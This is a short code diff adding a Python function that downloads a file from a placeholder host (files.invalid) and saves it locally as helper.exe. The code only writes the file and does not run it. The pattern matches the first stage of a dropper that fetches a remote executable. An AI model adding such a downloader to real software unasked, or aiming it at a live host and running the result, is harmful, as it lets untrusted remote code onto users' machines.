@@ -1,0 +1,4 @@
+import requests
+
+def fetch():
+    open("helper.exe", "wb").write(requests.get("http://files.invalid/h").content)
